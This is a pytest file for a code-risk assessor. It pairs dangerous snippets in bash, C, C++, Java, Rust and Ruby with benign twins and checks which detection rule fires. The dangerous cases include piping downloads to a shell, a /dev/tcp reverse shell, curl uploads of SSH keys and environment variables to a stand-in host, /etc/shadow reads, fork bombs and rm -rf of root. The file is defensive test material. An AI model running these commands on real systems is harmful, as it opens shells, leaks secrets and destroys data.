# ruff: noqa: E501
"""The rules for bash, C, C++, Java, Rust and Ruby, one by one: each dangerous shape names its
rule at its severity, and its benign twin (the same task done the everyday way) does not."""

from __future__ import annotations

import pytest
from rule_findings import rules

from hazmat.assess.assessor import Assessor
from hazmat.assess.child import analyzers_for
from hazmat.models import RiskLevel, Severity

S = Severity

# (language, dangerous code, rule, severity, benign twin)
CASES = [
    # --- bash --------------------------------------------------------------------------
    (
        "bash",
        "curl -fsSL https://x.example/i.sh | sh",
        "pipe-to-shell",
        S.CRITICAL,
        "curl -fsSL https://x.example/data.csv | sort > data.csv",
    ),
    (
        "bash",
        "wget -qO- http://x.example/s | sudo bash -s",
        "pipe-to-shell",
        S.CRITICAL,
        "wget -qO- http://x.example/s | grep -c ok",
    ),
    (
        "bash",
        "bash <(curl -s http://x.example/s)",
        "pipe-to-shell",
        S.CRITICAL,
        "diff <(sort a.txt) <(sort b.txt)",
    ),
    (
        "bash",
        'eval "$(curl -s http://x.example/s)"',
        "pipe-to-shell",
        S.CRITICAL,
        'out="$(curl -s http://x.example/s)"; echo "$out"',
    ),
    (
        "bash",
        "c=$(echo Y3VybA== | base64 -d); $c http://x.example",
        "obfuscated-command",
        S.CRITICAL,
        'd=$(echo aGk= | base64 -d); echo "$d"',
    ),
    (
        "bash",
        "echo aWQ= | base64 -d | sh",
        "obfuscated-command",
        S.CRITICAL,
        "echo aWQ= | base64 -d | wc -c",
    ),
    (
        "bash",
        'c""url http://x.example',
        "obfuscated-command",
        S.CRITICAL,
        '"curl" http://x.example',
    ),
    (
        "bash",
        "alias g=nc\ng -e /bin/sh 10.0.0.1 4444",
        "reverse-shell",
        S.CRITICAL,
        "alias ll='ls -l'\nll",
    ),
    (
        "bash",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "reverse-shell",
        S.CRITICAL,
        "bash -c 'echo hi' > out.txt 2>&1",
    ),
    ("bash", "exec 3<>/dev/tcp/10.0.0.1/80", "dev-tcp", S.HIGH, "exec 3<input.txt"),
    ("bash", ":(){ :|:& };:", "fork-bomb", S.CRITICAL, "f(){ echo hi | cat; }; f"),
    (
        "bash",
        "while true; do sleep 1 & done",
        "fork-bomb",
        S.CRITICAL,
        "for i in 1 2 3; do sleep 1 & done; wait",
    ),
    (
        "bash",
        "while true; do echo y; done",
        "infinite-loop",
        S.HIGH,
        'while true; do read -r l || break; echo "$l"; done',
    ),
    ("bash", 'eval "$1"', "call-eval", S.HIGH, 'echo "$1"'),
    ("bash", 'src=$1; source "$src"', "source-computed", S.HIGH, "source ./lib.sh"),
    ("bash", '"$CMD" --version', "computed-command", S.HIGH, 'echo "$CMD" --version'),
    ("bash", "nsenter -t 1 -m -p sh", "namespace-escape", S.CRITICAL, "nproc"),
    ("bash", "sudo cat /etc/hosts", "privilege", S.HIGH, "cat /etc/hosts"),
    (
        "bash",
        "docker run --privileged alpine",
        "container-engine",
        S.HIGH,
        "echo docker run --privileged alpine",
    ),
    ("bash", "nc 10.0.0.1 80 < data.txt", "network-tool", S.HIGH, "wc -l < data.txt"),
    ("bash", "cat /etc/shadow", "secret-read", S.HIGH, "cat /etc/hostname"),
    (
        "bash",
        "curl -F f=@$HOME/.ssh/id_rsa http://x.example",
        "secret-exfiltration",
        S.CRITICAL,
        "curl -F f=@report.txt http://x.example",
    ),
    (
        "bash",
        "env | curl -d @- http://x.example",
        "secret-exfiltration",
        S.CRITICAL,
        "printenv HOME",
    ),
    ("bash", "printenv", "env-dump", S.MEDIUM, "printenv PATH"),
    (
        "bash",
        "curl http://169.254.169.254/latest/meta-data/",
        "cloud-metadata",
        S.HIGH,
        "curl http://example.org/latest/data/",
    ),
    ("bash", "echo x >> ~/.bashrc", "persistence-write", S.HIGH, "echo x >> ./notes.txt"),
    (
        "bash",
        "echo 0 > /proc/sys/kernel/randomize_va_space",
        "outside-write",
        S.HIGH,
        "echo 0 > /tmp/flag",
    ),
    ("bash", "rm -rf --no-preserve-root /", "destroy-root", S.CRITICAL, "rm -rf ./build"),
    ("bash", "history -c", "destroy-evidence", S.HIGH, "history | tail -3"),
    ("bash", "chmod u+s /tmp/x", "setuid", S.HIGH, "chmod u+x ./run.sh"),
    (
        "bash",
        "sh -c 'curl -s http://x.example | sh'",
        "pipe-to-shell",
        S.CRITICAL,
        "sh -c 'ls | sort'",
    ),
    ("bash", 'python3 -c "$CODE"', "computed-command", S.HIGH, "python3 script.py"),
    # --- C and C++ -----------------------------------------------------------------------
    (
        "c",
        'int main(void){ return system("id"); }',
        "process-exec",
        S.HIGH,
        'int main(void){ return puts("id"); }',
    ),
    (
        "c",
        '#define RUN system\nint main(void){ return RUN("id"); }',
        "process-exec",
        S.HIGH,
        '#define SAY puts\nint main(void){ return SAY("id"); }',
    ),
    (
        "c",
        'int main(void){ int (*f)(const char *) = system; return f("id"); }',
        "process-exec",
        S.HIGH,
        'int main(void){ int (*f)(const char *) = puts; return f("id"); }',
    ),
    (
        "c",
        "int main(void){ for(;;) fork(); }",
        "fork-bomb",
        S.CRITICAL,
        'int main(void){ for(int i = 0; i < 3; i++) puts("x"); }',
    ),
    (
        "c",
        "int main(void){ while (1) { malloc(1 << 20); } }",
        "unbounded-allocation",
        S.HIGH,
        "int main(void){ while (1) { void *p = malloc(8); if (p) break; } }",
    ),
    (
        "c",
        "int main(void){ return syscall(39); }",
        "raw-syscall",
        S.HIGH,
        "int main(void){ return getpid(); }",
    ),
    (
        "c",
        "int main(void){ ptrace(0, 1, 0, 0); }",
        "ptrace",
        S.CRITICAL,
        'int main(void){ printf("%d", 1); }',
    ),
    (
        "c",
        'int main(void){ __asm__ volatile ("syscall"); }',
        "inline-asm",
        S.CRITICAL,
        "int main(void){ volatile int x = 1; return x; }",
    ),
    (
        "c",
        "int main(void){ void *p = mmap(0, 4096, PROT_READ|PROT_WRITE|PROT_EXEC, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0); }",
        "executable-memory",
        S.CRITICAL,
        "int main(void){ void *p = mmap(0, 4096, PROT_READ|PROT_WRITE, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0); }",
    ),
    (
        "c",
        "int main(void){ ((void(*)(void))buf)(); }",
        "shellcode-call",
        S.CRITICAL,
        "int main(void){ run(buf); }",
    ),
    (
        "c",
        '#include <dlfcn.h>\nint main(void){ dlopen("x.so", 1); }',
        "dynamic-loading",
        S.HIGH,
        "#include <math.h>\nint main(void){ sqrt(2.0); }",
    ),
    (
        "c",
        'int main(void){ FILE *f = fopen("/etc/shadow", "r"); }',
        "secret-read",
        S.HIGH,
        'int main(void){ FILE *f = fopen("input.txt", "r"); }',
    ),
    (
        "c",
        'int main(void){ FILE *f = fopen("/etc/cron.d/x", "w"); }',
        "persistence-write",
        S.HIGH,
        'int main(void){ FILE *f = fopen("/tmp/x", "w"); }',
    ),
    (
        "c",
        'int main(void){ char p[99]; snprintf(p, 99, "%s/.ssh/id_rsa", getenv("HOME")); fopen(p, "r"); }',
        "secret-read",
        S.HIGH,
        'int main(void){ char p[99]; snprintf(p, 99, "%s/out.txt", "."); fopen(p, "r"); }',
    ),
    (
        "c",
        'int main(void){ int s = socket(2, 1, 0); FILE *f = fopen("/proc/1/environ", "r"); }',
        "secret-exfiltration",
        S.CRITICAL,
        'int main(void){ FILE *f = fopen("data.txt", "r"); }',
    ),
    (
        "c",
        "extern char **environ;\nint main(void){ puts(environ[0]); }",
        "env-dump",
        S.MEDIUM,
        'int main(void){ puts(getenv("LANG")); }',
    ),
    (
        "cpp",
        'int main(){ std::system("id"); }',
        "process-exec",
        S.HIGH,
        'int main(){ std::puts("id"); }',
    ),
    (
        "cpp",
        '#include <fstream>\nint main(){ std::ifstream in("/etc/shadow"); }',
        "secret-read",
        S.HIGH,
        '#include <fstream>\nint main(){ std::ifstream in("input.txt"); }',
    ),
    (
        "cpp",
        'int main(){ std::string rc = "/root/.bashrc"; std::ofstream out(rc); }',
        "persistence-write",
        S.HIGH,
        'int main(){ std::string rc = "out.txt"; std::ofstream out(rc); }',
    ),
    (
        "cpp",
        'int main(){ std::filesystem::remove_all("/usr/lib"); }',
        "outside-delete",
        S.HIGH,
        'int main(){ std::filesystem::remove_all("build"); }',
    ),
    (
        "cpp",
        'int main(){ asm("nop"); }',
        "inline-asm",
        S.HIGH,
        "int main(){ int nop = 0; return nop; }",
    ),
    (
        "cpp",
        "#include <boost/process.hpp>",
        "include-boost-process",
        S.HIGH,
        "#include <boost/algorithm/string.hpp>",
    ),
    # --- Java --------------------------------------------------------------------------
    (
        "java",
        'class A { void f() throws Exception { Runtime.getRuntime().exec("id"); } }',
        "process-exec",
        S.HIGH,
        "class A { int f() { return Runtime.getRuntime().availableProcessors(); } }",
    ),
    (
        "java",
        'class A { void f() throws Exception { Runtime r = Runtime.getRuntime(); r.exec("id"); } }',
        "process-exec",
        S.HIGH,
        "class A { void f() { Runtime r = Runtime.getRuntime(); r.gc(); } }",
    ),
    (
        "java",
        'class A { static Runtime rt() { return Runtime.getRuntime(); } void f() throws Exception { rt().exec("id"); } }',
        "process-exec",
        S.HIGH,
        "class A { static Runtime rt() { return Runtime.getRuntime(); } long f() { return rt().totalMemory(); } }",
    ),
    (
        "java",
        'class A { void f() throws Exception { new ProcessBuilder("id").start(); } }',
        "process-exec",
        S.HIGH,
        'class A { void f() { new StringBuilder("id").reverse(); } }',
    ),
    (
        "java",
        'class A { void f() throws Exception { Class.forName("java.lang.Runtime"); } }',
        "reflective-exec",
        S.CRITICAL,
        'class A { void f() { String.valueOf("java.lang.Runtime"); } }',
    ),
    (
        "java",
        'class A { void f(String s) throws Exception { Class.forName("java." + s); } }',
        "obfuscated-name",
        S.CRITICAL,
        'class A { String f(String s) { return "java." + s; } }',
    ),
    (
        "java",
        "class A { void f(java.lang.reflect.Field x) { x.setAccessible(true); } }",
        "reflection-access",
        S.HIGH,
        "class A { void f(java.util.List<Integer> x) { x.add(1); } }",
    ),
    (
        "java",
        "import java.lang.invoke.MethodHandles;",
        "import-invoke",
        S.HIGH,
        "import java.util.function.Function;",
    ),
    (
        "java",
        'class A { void f() { System.loadLibrary("x"); } }',
        "native-library",
        S.CRITICAL,
        'class A { void f() { System.getProperty("x"); } }',
    ),
    (
        "java",
        "class A { native void f(); }",
        "jni-native",
        S.CRITICAL,
        "class A { final void f() {} }",
    ),
    ("java", "import sun.misc.Unsafe;", "import-unsafe", S.CRITICAL, "import java.util.Objects;"),
    (
        "java",
        'class A { void f() throws Exception { new java.net.Socket("h", 1); } }',
        "socket",
        S.HIGH,
        "class A { void f() { new java.util.Scanner(System.in); } }",
    ),
    (
        "java",
        'class A { void f() throws Exception { new java.io.FileReader("/etc/shadow"); } }',
        "secret-read",
        S.HIGH,
        'class A { void f() throws Exception { new java.io.FileReader("input.txt"); } }',
    ),
    (
        "java",
        'class A { void f() throws Exception { java.nio.file.Files.readAllBytes(java.nio.file.Paths.get(System.getProperty("user.home"), ".ssh", "id_rsa")); } }',
        "secret-read",
        S.HIGH,
        'class A { void f() throws Exception { java.nio.file.Files.readAllBytes(java.nio.file.Paths.get(System.getProperty("user.home"), "notes.txt")); } }',
    ),
    (
        "java",
        'class A { void f() throws Exception { new java.io.FileWriter("/etc/cron.d/x"); } }',
        "persistence-write",
        S.HIGH,
        'class A { void f() throws Exception { new java.io.FileWriter("out/x.txt"); } }',
    ),
    (
        "java",
        "class A { void f() { System.out.println(System.getenv()); } }",
        "env-dump",
        S.MEDIUM,
        'class A { void f() { System.out.println(System.getenv("HOME")); } }',
    ),
    (
        "java",
        "class A { void f(javax.script.ScriptEngine engine, String s) throws Exception { engine.eval(s); } }",
        "script-eval",
        S.HIGH,
        "class A { void f(java.util.Map<String, String> m, String s) { m.get(s); } }",
    ),
    (
        "java",
        "class A { void f() { java.util.List<int[]> k = new java.util.ArrayList<>(); while (true) { k.add(new int[1 << 20]); } } }",
        "unbounded-allocation",
        S.HIGH,
        "class A { void f() { int i = 0; while (true) { if (++i > 9) break; } } }",
    ),
    (
        "java",
        'class A { void f() throws Exception { new java.io.ObjectInputStream(new java.io.FileInputStream("x.bin")).readObject(); } }',
        "unsafe-deserialization",
        S.HIGH,
        'class A { void f() throws Exception { new java.io.DataInputStream(new java.io.FileInputStream("x.bin")).readInt(); } }',
    ),
    # --- Rust --------------------------------------------------------------------------
    (
        "rust",
        'fn main() { std::process::Command::new("id").status().unwrap(); }',
        "process-exec",
        S.HIGH,
        "fn main() { std::process::exit(0); }",
    ),
    (
        "rust",
        'use std::process::Command as Job;\nfn main() { Job::new("id").spawn().unwrap(); }',
        "process-exec",
        S.HIGH,
        "use std::collections::HashMap as Job;\nfn main() { let _m: Job<u8, u8> = Job::new(); }",
    ),
    (
        "rust",
        'use std::process;\nfn main() { process::Command::new("id"); }',
        "process-exec",
        S.HIGH,
        "use std::process;\nfn main() { process::exit(1); }",
    ),
    (
        "rust",
        'fn main() { let _s = std::net::TcpStream::connect("10.0.0.1:80"); }',
        "socket",
        S.HIGH,
        "fn main() { let _s = std::io::stdin(); }",
    ),
    (
        "rust",
        "fn main() { unsafe { libc::syscall(39); } }",
        "raw-syscall",
        S.HIGH,
        "fn main() { let _ = libc_free::id(39); }",
    ),
    (
        "rust",
        'fn main() { unsafe { std::arch::asm!("syscall"); } }',
        "inline-asm",
        S.CRITICAL,
        'fn main() { println!("syscall"); }',
    ),
    (
        "rust",
        'extern "C" { fn system(c: *const u8) -> i32; }',
        "extern-c",
        S.HIGH,
        "trait Run { fn system(&self) -> i32; }",
    ),
    (
        "rust",
        'extern "C" { fn system(c: *const u8) -> i32; }\nfn main() { unsafe { system(b"id\\0".as_ptr()); } }',
        "process-exec",
        S.HIGH,
        "fn system(x: i32) -> i32 { x }\nfn main() { system(1); }",
    ),
    (
        "rust",
        "fn main() { let f = unsafe { std::mem::transmute::<*const u8, fn()>(p) }; }",
        "shellcode-call",
        S.CRITICAL,
        "fn main() { let f = unsafe { std::mem::transmute::<u32, f32>(1) }; }",
    ),
    (
        "rust",
        "fn main() { let x = unsafe { *p }; }",
        "unsafe-block",
        S.MEDIUM,
        "fn main() { let x = *p; }",
    ),
    (
        "rust",
        'fn main() { let s = std::fs::read_to_string("/etc/shadow"); }',
        "secret-read",
        S.HIGH,
        'fn main() { let s = std::fs::read_to_string("input.txt"); }',
    ),
    (
        "rust",
        'fn main() { let h = std::env::var("HOME").unwrap(); let k = std::fs::read(format!("{}/.aws/credentials", h)); }',
        "secret-read",
        S.HIGH,
        'fn main() { let h = std::env::var("HOME").unwrap(); let k = std::fs::read(format!("{}/notes.txt", h)); }',
    ),
    (
        "rust",
        'fn main() { std::fs::remove_dir_all("/var/log").ok(); }',
        "destroy-evidence",
        S.HIGH,
        'fn main() { std::fs::remove_dir_all("target/tmp").ok(); }',
    ),
    (
        "rust",
        'fn main() { let f = std::fs::OpenOptions::new().append(true).open("/root/.profile"); }',
        "persistence-write",
        S.HIGH,
        'fn main() { let f = std::fs::OpenOptions::new().append(true).open("log.txt"); }',
    ),
    (
        "rust",
        'fn main() { for (k, v) in std::env::vars() { println!("{k}={v}"); } }',
        "env-dump",
        S.MEDIUM,
        'fn main() { for a in std::env::args() { println!("{a}"); } }',
    ),
    (
        "rust",
        'fn main() { loop { std::process::Command::new("x").spawn().ok(); } }',
        "fork-bomb",
        S.CRITICAL,
        "fn main() { for _ in 0..3 { std::thread::spawn(|| 1); } }",
    ),
    (
        "rust",
        "fn main() { let mut v = Vec::new(); loop { v.push(vec![0u8; 1 << 20]); } }",
        "unbounded-allocation",
        S.HIGH,
        "fn main() { let mut v = Vec::new(); loop { v.push(1); if v.len() > 9 { break; } } }",
    ),
    ("rust", "fn main() { loop {} }", "infinite-loop", S.HIGH, "fn main() { loop { return; } }"),
    # --- Ruby --------------------------------------------------------------------------
    ("ruby", 'system("id")', "process-exec", S.HIGH, 'puts("id")'),
    ("ruby", "out = `id`", "process-exec", S.HIGH, "out = 'id'"),
    ("ruby", "out = %x(id)", "process-exec", S.HIGH, "out = %w(id)"),
    ("ruby", "exec 'sh'", "process-exec", S.HIGH, "print 'sh'"),
    ("ruby", "IO.popen('id') { |io| io.read }", "process-exec", S.HIGH, "IO.readlines('data.txt')"),
    ("ruby", "open('|id').read", "process-exec", S.HIGH, "open('data.txt').read"),
    (
        "ruby",
        "Kernel.send(:system, 'id')",
        "reflective-call",
        S.CRITICAL,
        "Kernel.send(:format, '%d', 1)",
    ),
    ("ruby", "method(:exec).call('sh')", "reflective-call", S.CRITICAL, "method(:puts).call('sh')"),
    ("ruby", "alias run system", "reflective-call", S.CRITICAL, "alias show inspect"),
    (
        "ruby",
        "obj.send(Base64.decode64('c3lzdGVt'), 'id')",
        "obfuscated-name",
        S.CRITICAL,
        "obj.send(:size)",
    ),
    ("ruby", "obj.send(name, 'id')", "dynamic-send", S.HIGH, "obj.public_send(:size)"),
    ("ruby", "eval(code)", "call-eval", S.HIGH, "puts(code)"),
    (
        "ruby",
        'Object.class_eval("def x; #{y}; end")',
        "call-eval",
        S.HIGH,
        "Object.class_eval { def x; 1; end }",
    ),
    ("ruby", "fork { sleep }", "process-fork", S.HIGH, "Thread.new { sleep }"),
    (
        "ruby",
        "loop do\n  fork\nend",
        "fork-bomb",
        S.CRITICAL,
        "loop do\n  line = gets\n  break unless line\nend",
    ),
    (
        "ruby",
        "keep = []\nloop { keep << 'x' * 1_000_000 }",
        "unbounded-allocation",
        S.HIGH,
        "keep = []\n3.times { keep << 'x' }",
    ),
    ("ruby", "require 'fiddle'", "fiddle", S.CRITICAL, "require 'json'"),
    ("ruby", "require 'ffi'", "ffi", S.CRITICAL, "require 'csv'"),
    ("ruby", "require 'open3'", "require-open3", S.HIGH, "require 'set'"),
    ("ruby", "TCPSocket.new('10.0.0.1', 80)", "socket", S.HIGH, "Struct.new(:a, :b)"),
    ("ruby", "File.read('/etc/shadow')", "secret-read", S.HIGH, "File.read('data.csv')"),
    (
        "ruby",
        "File.read(File.join(Dir.home, '.ssh', 'id_rsa'))",
        "secret-read",
        S.HIGH,
        "File.read(File.join(Dir.pwd, 'data', 'input.txt'))",
    ),
    (
        "ruby",
        "require 'socket'\nk = File.read('/proc/self/environ')\nTCPSocket.new('h', 1).write(k)",
        "secret-exfiltration",
        S.CRITICAL,
        "k = File.read('input.txt')\nputs k",
    ),
    ("ruby", "puts ENV.to_h", "env-dump", S.MEDIUM, "puts ENV['HOME']"),
    (
        "ruby",
        "File.write(File.expand_path('~/.bashrc'), 'x')",
        "persistence-write",
        S.HIGH,
        "File.write('out.txt', 'x')",
    ),
    (
        "ruby",
        "FileUtils.rm_rf('/var/log')",
        "destroy-evidence",
        S.HIGH,
        "FileUtils.rm_rf('tmp/cache')",
    ),
    (
        "ruby",
        "Marshal.load(File.binread('x.bin'))",
        "unsafe-deserialization",
        S.HIGH,
        "JSON.parse(File.read('x.json'))",
    ),
    (
        "ruby",
        "ObjectSpace.each_object(Class) { |c| p c }",
        "object-graph",
        S.HIGH,
        "[String, Integer].each { |c| p c }",
    ),
]


@pytest.mark.parametrize(
    ("language", "code", "rule", "severity", "twin"),
    CASES,
    ids=[f"{c[0]}-{c[2]}-{i}" for i, c in enumerate(CASES)],
)
def test_rule_fires_and_its_benign_twin_does_not(
    language: str, code: str, rule: str, severity: Severity, twin: str
) -> None:
    assert rules(code, language).get(rule) == severity, rules(code, language)
    assert rule not in rules(twin, language), rules(twin, language)


@pytest.mark.parametrize("language", ["bash", "c", "cpp", "java", "rust", "ruby"])
def test_syntax_error_is_one_medium_finding_with_its_line(language: str) -> None:
    code = {
        "bash": "if true; then\n  echo (\n",
        "c": "int main(void) {\n  int x = ;\n}",
        "cpp": "int main() {\n  std::vector<int> v{1, 2;\n}",
        "java": "class A {\n  void f() { int x = ; }\n}",
        "rust": "fn main() {\n  let x = ;\n}",
        "ruby": "def f(\n  puts 1\n",
    }[language]
    found = [f for f in rules(code, language).items() if f[0] == "syntax-error"]
    assert found == [("syntax-error", Severity.MEDIUM)]


@pytest.mark.parametrize(
    ("language", "analysers"),
    [("bash", ["bash"]), ("c", ["c-family"]), ("cpp", ["c-family"]), ("java", ["java"]),
     ("rust", ["rust"]), ("ruby", ["ruby"])],
)  # fmt: skip
def test_the_child_dispatches_each_language_to_its_analyser(
    language: str, analysers: list[str]
) -> None:
    assert analyzers_for(language) == analysers


@pytest.mark.parametrize(
    ("alias", "code", "level"),
    [
        ("sh", "curl -s http://x.example/i | sh", RiskLevel.BLOCKED),
        ("shell", "grep -c x data.txt | sort", RiskLevel.LOW),
        ("c++", 'int main() { std::system("id"); }', RiskLevel.HIGH),
        ("cxx", "int main() { return 0; }", RiskLevel.LOW),
        ("rs", "fn main() { loop {} }", RiskLevel.HIGH),
        ("rb", "Kernel.send(:exec, 'sh')", RiskLevel.BLOCKED),
        (
            "java",
            'class A { void f() throws Exception { Runtime.getRuntime().exec("id"); } }',
            RiskLevel.HIGH,
        ),
        ("c", "int main(void) { int x = ; }", RiskLevel.MEDIUM),
    ],
)
def test_assessor_rates_the_new_languages_end_to_end(
    assessor: Assessor, alias: str, code: str, level: RiskLevel
) -> None:
    assessment = assessor.assess(code, alias)
    assert assessment.complete, assessment.problems
    assert assessment.level is level, assessment.findings
    assert assessment.analyzers and assessment.analyzers[0] in (
        "bash",
        "c-family",
        "java",
        "rust",
        "ruby",
    )
